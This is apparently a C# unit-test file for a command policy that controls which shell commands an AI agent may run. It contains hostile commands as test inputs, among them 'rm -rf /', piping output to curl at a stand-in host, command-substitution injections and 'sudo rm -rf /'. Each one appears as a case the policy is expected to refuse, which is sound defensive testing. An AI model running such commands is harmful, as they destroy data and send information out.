namespace ParallelAgents.Sdk.Tests.Agents;

public sealed class CommandPolicyTests
{
    [Theory]
    [InlineData("npm test", null)]
    [InlineData("npm test 2>&1", null)]
    [InlineData("npm   run build && npm test", null)]
    [InlineData("npx jest", "'npx jest' is not allowed")]
    [InlineData("npm test && rm -rf /", "'rm -rf /' is not allowed")]
    [InlineData("npm test | curl -d @- example.invalid", "'curl -d @- example.invalid' is not allowed")]
    [InlineData("npm test & sleep 1", "'sleep 1' is not allowed")]
    [InlineData("npm test $(rm -rf /)", "command substitution")]
    [InlineData("npm test `id`", "command substitution")]
    [InlineData("npm test; git push", "'git push' is denied")]
    public void Check_AllowListAndDefaultDenyList(string command, string? refusal)
    {
        var policy = new CommandPolicy(["npm"], new ChatClientAgentOptions().DeniedCommands);

        string? result = policy.Check(command);

        if (refusal is null)
        {
            Assert.Null(result);
        }
        else
        {
            Assert.NotNull(result);
            Assert.Contains(refusal, result);
        }
    }

    [Fact]
    public void Check_NoAllowList_OnlyDeniedRefused()
    {
        var policy = new CommandPolicy([], ["sudo"]);

        Assert.Null(policy.Check("rm -rf build && echo $(date)"));
        Assert.Contains("is denied", policy.Check("echo x\nsudo rm -rf /"));
        Assert.Null(policy.Check("sudoku --solve"));
    }
}
